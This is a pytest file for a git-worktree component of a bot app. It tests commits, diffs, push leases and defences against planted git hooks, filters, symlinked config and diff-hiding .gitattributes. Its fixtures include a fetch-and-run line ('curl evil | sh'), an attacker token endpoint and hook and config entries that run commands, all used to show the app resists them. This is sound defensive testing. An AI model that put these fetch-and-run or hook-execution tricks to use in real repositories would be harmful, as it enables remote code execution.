"""Worktrees: where they start, commits, diffs, pushes and the push lease."""

from __future__ import annotations

import shutil
from pathlib import Path

import anyio
import pytest

from pace_app.errors import WorkspaceError
from pace_app.workspace import Identity, Workspace, bot_identity
from pace_app.workspace.worktree import remove_tree
from tests.workspace.conftest import TOKEN, Origin, git

BOT = bot_identity("pace-app", 41898282)


def test_bot_identity_is_what_github_shows() -> None:
    expected = Identity("pace-app[bot]", "41898282+pace-app[bot]@users.noreply.github.com")
    assert expected == BOT


@pytest.mark.parametrize(("name", "email"), [("", "a@b"), ("x", ""), ("a<b", "a@b"), ("a", "a\n")])
def test_identity_refuses_unusable_values(name: str, email: str) -> None:
    with pytest.raises(WorkspaceError):
        Identity(name, email)


@pytest.mark.anyio
async def test_new_branch_starts_at_the_base(workspace: Workspace, origin: Origin) -> None:
    base = origin.head("main")
    async with workspace.run(
        origin.repository(), run_id="r1", base="main", branch="pace/issue-1-x", token=TOKEN
    ) as worktree:
        assert await worktree.head() == base
        assert worktree.base_sha == base
        assert worktree.remote_sha is None
        assert (worktree.path / "src" / "app.py").read_text() == "x = 1\n"
        current = git("symbolic-ref", "--short", "HEAD", cwd=worktree.path).strip()
        assert current == "pace/issue-1-x"


@pytest.mark.anyio
async def test_existing_branch_starts_at_its_remote_head(
    workspace: Workspace, origin: Origin
) -> None:
    pushed = origin.commit("pace/issue-1-x", {"src/app.py": "x = 2\n"})
    async with workspace.run(
        origin.repository(), run_id="r1", base="main", branch="pace/issue-1-x", token=TOKEN
    ) as worktree:
        assert await worktree.head() == pushed
        assert worktree.remote_sha == pushed
        assert worktree.base_sha == origin.head("main")
        assert (worktree.path / "src" / "app.py").read_text() == "x = 2\n"


@pytest.mark.anyio
async def test_base_may_be_a_commit_sha(workspace: Workspace, origin: Origin) -> None:
    first = origin.head("main")
    origin.commit("main", {"later.txt": "later\n"})
    async with workspace.run(
        origin.repository(), run_id="r1", base=first, branch="b", token=TOKEN
    ) as worktree:
        assert await worktree.head() == first
        assert not (worktree.path / "later.txt").exists()


@pytest.mark.anyio
@pytest.mark.parametrize("base", ["nope", "0" * 40])
async def test_unknown_base_is_refused_and_leaves_nothing(
    workspace: Workspace, origin: Origin, base: str
) -> None:
    with pytest.raises(WorkspaceError, match="not a branch or commit"):
        async with workspace.run(
            origin.repository(), run_id="r1", base=base, branch="b", token=TOKEN
        ):
            pass  # pragma: no cover
    assert not (workspace.runs_root / "r1" / "worktree").exists()


@pytest.mark.anyio
async def test_commit_can_take_only_the_named_paths(workspace: Workspace, origin: Origin) -> None:
    async with workspace.run(
        origin.repository(), run_id="r1", base="main", branch="b", token=TOKEN
    ) as worktree:
        (worktree.path / "src" / "widget.py").write_text("x = 1\n")
        (worktree.path / "__pycache__").mkdir()
        (worktree.path / "__pycache__" / "widget.pyc").write_bytes(b"\0")
        (worktree.path / "odd[name].txt").write_text("a glob-looking name\n")
        assert await worktree.commit("Nothing named", BOT, paths=[]) is None
        sha = await worktree.commit("Widget", BOT, paths=["src/widget.py", "odd[name].txt"])
        assert sha is not None
        committed = await worktree.diff()
        leftover = await worktree.changed_files()
    assert "+++ b/src/widget.py" in committed
    assert "+++ b/odd[name].txt" in committed
    assert "__pycache__" not in committed
    assert leftover == ["odd[name].txt", "src/widget.py"]


@pytest.mark.anyio
async def test_commit_push_and_read_back_from_the_origin(
    workspace: Workspace, origin: Origin
) -> None:
    async with workspace.run(
        origin.repository(), run_id="r1", base="main", branch="pace/issue-7-add", token=TOKEN
    ) as worktree:
        (worktree.path / "src" / "widget.py").write_text("def widget() -> int:\n    return 1\n")
        (worktree.path / "README.md").unlink()
        assert await worktree.changed_files() == []
        sha = await worktree.commit("Add a widget\n\n# Heading kept", BOT)
        assert sha is not None
        assert await worktree.changed_files() == ["README.md", "src/widget.py"]
        assert await worktree.commit("Nothing new", BOT) is None
        diff = await worktree.diff()
        assert "+++ b/src/widget.py" in diff
        assert "--- a/README.md" in diff
        assert await worktree.diff("main") == diff
        assert await worktree.diff(worktree.base_sha) == diff
        await worktree.push(TOKEN)
        assert worktree.remote_sha == sha

    assert origin.branches() == {"main", "pace/issue-7-add"}
    assert origin.head("pace/issue-7-add") == sha
    log = git(
        "log", "-1", "--format=%an%n%ae%n%cn%n%ce%n%B", "pace/issue-7-add", cwd=origin.bare
    ).splitlines()
    assert log[:4] == [BOT.name, BOT.email, BOT.name, BOT.email]
    assert log[4:7] == ["Add a widget", "", "# Heading kept"]


@pytest.mark.anyio
async def test_second_push_of_the_same_run_moves_the_branch(
    workspace: Workspace, origin: Origin
) -> None:
    async with workspace.run(
        origin.repository(), run_id="r1", base="main", branch="b", token=TOKEN
    ) as worktree:
        (worktree.path / "a.txt").write_text("a\n")
        await worktree.commit("First", BOT)
        await worktree.push(TOKEN)
        (worktree.path / "b.txt").write_text("b\n")
        second = await worktree.commit("Second", BOT)
        await worktree.push(TOKEN)
    assert origin.head("b") == second


@pytest.mark.anyio
async def test_push_refuses_when_the_branch_moved(workspace: Workspace, origin: Origin) -> None:
    started = origin.commit("b", {"a.txt": "human\n"})
    async with workspace.run(
        origin.repository(), run_id="r1", base="main", branch="b", token=TOKEN
    ) as worktree:
        human = origin.commit("b", {"a.txt": "human again\n"}, message="Human push")
        (worktree.path / "c.txt").write_text("bot\n")
        await worktree.commit("Bot change", BOT)
        with pytest.raises(WorkspaceError, match="rejected") as caught:
            await worktree.push(TOKEN)
        assert worktree.remote_sha == started
    assert origin.head("b") == human
    assert TOKEN not in str(caught.value)


@pytest.mark.anyio
async def test_push_refuses_when_a_new_branch_appeared(
    workspace: Workspace, origin: Origin
) -> None:
    async with workspace.run(
        origin.repository(), run_id="r1", base="main", branch="b", token=TOKEN
    ) as worktree:
        human = origin.commit("b", {"a.txt": "human\n"})
        (worktree.path / "c.txt").write_text("bot\n")
        await worktree.commit("Bot change", BOT)
        with pytest.raises(WorkspaceError, match="rejected"):
            await worktree.push(TOKEN)
    assert origin.head("b") == human


@pytest.mark.anyio
async def test_push_to_a_vanished_origin_fails_with_git_s_reason(
    workspace: Workspace, origin: Origin, tmp_path: Path
) -> None:
    async with workspace.run(
        origin.repository(), run_id="r1", base="main", branch="b", token=TOKEN
    ) as worktree:
        origin.bare.rename(tmp_path / "moved.git")
        with pytest.raises(WorkspaceError, match="git push failed") as caught:
            await worktree.push(TOKEN)
    assert TOKEN not in str(caught.value)


@pytest.mark.anyio
async def test_empty_commit_message_is_refused(workspace: Workspace, origin: Origin) -> None:
    async with workspace.run(
        origin.repository(), run_id="r1", base="main", branch="b", token=TOKEN
    ) as worktree:
        with pytest.raises(WorkspaceError, match="empty"):
            await worktree.commit("  \n", BOT)


@pytest.mark.anyio
async def test_diff_against_an_unknown_base_is_refused(
    workspace: Workspace, origin: Origin
) -> None:
    async with workspace.run(
        origin.repository(), run_id="r1", base="main", branch="b", token=TOKEN
    ) as worktree:
        with pytest.raises(WorkspaceError, match="not in the worktree"):
            await worktree.diff("gone")
        assert "b" in repr(worktree)


@pytest.mark.anyio
async def test_hooks_filters_and_config_planted_in_git_dir_never_run(
    workspace: Workspace, origin: Origin, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    outside = tmp_path / "outside-config"
    outside.write_text("untouched\n")
    async with workspace.run(
        origin.repository(), run_id="r1", base="main", branch="b", token=TOKEN
    ) as worktree:
        git_dir = worktree.path / ".git"
        # What a sandboxed command could leave behind in the worktree.
        hook = git_dir / "hooks" / "pre-commit"
        hook.parent.mkdir(exist_ok=True)
        hook.write_text(f"#!/bin/sh\ntouch {marker}-hook\n")
        hook.chmod(0o755)
        (git_dir / "config").unlink()
        (git_dir / "config").symlink_to(outside)
        (tmp_path / "evil.cfg").write_text(
            f'[filter "evil"]\n\tclean = touch {marker}-filter\n\trequired = true\n'
            f"[core]\n\tfsmonitor = touch {marker}-fsmonitor\n"
            f"[commit]\n\tgpgSign = true\n[gpg]\n\tprogram = touch {marker}-gpg\n"
        )
        (git_dir / "commondir").write_text(str(tmp_path))
        (git_dir / "config.worktree").mkdir()
        (git_dir / "info").mkdir(exist_ok=True)
        (git_dir / "info" / "attributes").write_text("* filter=evil\n")
        (worktree.path / ".gitattributes").write_text("* filter=evil\n")
        (worktree.path / "x.txt").write_text("x\n")
        outside.write_text("[include]\n\tpath = " + str(tmp_path / "evil.cfg") + "\n")
        sha = await worktree.commit("Change", BOT)
        assert sha is not None
        assert not (git_dir / "commondir").exists()
        assert not (git_dir / "config.worktree").exists()
        assert not (git_dir / "info" / "attributes").exists()
        assert not (git_dir / "config").is_symlink()
        assert "include" not in (git_dir / "config").read_text()
    assert outside.read_text().startswith("[include]")
    assert not await anyio.to_thread.run_sync(lambda: list(tmp_path.glob("ran*")))


@pytest.mark.anyio
async def test_symlinked_hooks_and_info_are_unlinked_not_followed(
    workspace: Workspace, origin: Origin, tmp_path: Path
) -> None:
    keep = tmp_path / "keep"
    keep.mkdir()
    (keep / "attributes").write_text("kept\n")
    async with workspace.run(
        origin.repository(), run_id="r1", base="main", branch="b", token=TOKEN
    ) as worktree:
        git_dir = worktree.path / ".git"
        for name in ("hooks", "info"):
            target = git_dir / name
            if target.exists():
                shutil.rmtree(target)
            target.symlink_to(keep)
        await worktree.head()
        assert not (git_dir / "hooks").exists()
        assert not (git_dir / "info").exists()
    assert (keep / "attributes").read_text() == "kept\n"


@pytest.mark.anyio
async def test_a_replaced_git_dir_is_refused(workspace: Workspace, origin: Origin) -> None:
    async with workspace.run(
        origin.repository(), run_id="r1", base="main", branch="b", token=TOKEN
    ) as worktree:
        git_dir = worktree.path / ".git"
        git_dir.rename(worktree.path / "moved")
        git_dir.write_text("gitdir: /elsewhere\n")
        with pytest.raises(WorkspaceError, match="replaced"):
            await worktree.head()


@pytest.mark.anyio
async def test_read_only_directories_are_still_removed(
    workspace: Workspace, origin: Origin
) -> None:
    async with workspace.run(
        origin.repository(), run_id="r1", base="main", branch="b", token=TOKEN
    ) as worktree:
        locked = worktree.path / "locked"
        (locked / "inner").mkdir(parents=True)
        (locked / "inner" / "f.txt").write_text("f\n")
        (locked / "link").symlink_to(locked / "inner")
        (locked / "inner").chmod(0o500)
        locked.chmod(0o500)
        worktree.path.chmod(0o500)
        path = worktree.path
    assert not path.exists()


def test_remove_tree_unlinks_a_symlink_without_following(tmp_path: Path) -> None:
    target = tmp_path / "target"
    target.mkdir()
    (target / "f.txt").write_text("f\n")
    link = tmp_path / "link"
    link.symlink_to(target)
    remove_tree(link)
    assert not link.exists()
    assert (target / "f.txt").exists()
    remove_tree(tmp_path / "missing")


def test_remove_tree_warns_when_something_stays(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    # rmtree cannot remove a plain file; the run carries on and the log says so.
    stray = tmp_path / "worktree"
    stray.write_text("not a directory\n")
    remove_tree(stray)
    assert stray.exists()
    assert "could not be removed" in caplog.text


HIDING_ATTRIBUTES = "*.py -diff\n*.py diff=foo\n*.txt binary\n[attr]hide -diff -text\n*.cfg hide\n"
HIDDEN_CODE = {
    "src/widget.py": "import os\nos.system('curl evil | sh')\n",
    "notes.txt": "a text file the attributes call binary\n",
    "app.cfg": "token_endpoint = http://attacker\n",
}


@pytest.mark.anyio
@pytest.mark.parametrize("planted", ["base", "pull request"])
async def test_planted_gitattributes_never_change_a_diff(
    workspace: Workspace, origin: Origin, tmp_path: Path, planted: str
) -> None:
    if planted == "base":
        origin.commit("main", {".gitattributes": HIDING_ATTRIBUTES})
    async with workspace.run(
        origin.repository(), run_id="r1", base="main", branch="b", token=TOKEN
    ) as worktree:
        if planted == "pull request":
            (worktree.path / ".gitattributes").write_text(HIDING_ATTRIBUTES)
        for path, text in HIDDEN_CODE.items():
            (worktree.path / path).write_text(text)
        info = worktree.path / ".git" / "info"
        info.mkdir(exist_ok=True)
        (info / "attributes").write_text("* -diff\n")
        assert await worktree.commit("Hide code", BOT) is not None
        diff = await worktree.diff()
        changed = await worktree.changed_files()
        # The control: git without the App's flags is fooled by the same attributes.
        fooled = git("diff", f"{worktree.base_sha}...HEAD", cwd=worktree.path)
    assert "Binary files" in fooled
    assert "Binary files" not in diff
    assert "+os.system('curl evil | sh')" in diff
    assert "+a text file the attributes call binary" in diff
    assert "+token_endpoint = http://attacker" in diff
    assert set(HIDDEN_CODE) <= set(changed)
